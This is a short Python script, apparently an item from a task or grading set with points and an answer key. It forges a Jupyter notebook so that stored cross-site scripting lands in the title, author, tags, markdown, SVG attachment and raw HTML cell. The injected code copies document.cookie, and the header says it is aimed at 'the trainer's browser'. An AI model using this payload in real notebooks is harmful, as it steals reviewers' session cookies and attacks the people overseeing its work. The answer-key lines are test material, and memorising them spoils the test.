# Script in titles, tags, attachments, raw cells and Markdown, for the trainer's browser.
# kind: notebook
# points: q1=2 q2=0 q3=0
# answers: q1-twin
SCRIPT = "<script>window.stolen = document.cookie</script>"


def forge(notebook):
    notebook["metadata"].update(title=SCRIPT, authors=[{"name": SCRIPT}])
    notebook["cells"][0]["metadata"]["tags"] = [SCRIPT]
    notebook["cells"].insert(2, {
        "cell_type": "markdown", "id": "mine", "metadata": {"tags": [SCRIPT]},
        "source": f"{SCRIPT} [click](javascript:stolen()) ![x](x\" onerror=\"stolen())",
        "attachments": {"x": {"image/svg+xml": SCRIPT}}})
    notebook["cells"].insert(3, {"cell_type": "raw", "id": "raw", "metadata": {"format": "text/html"}, "source": SCRIPT})
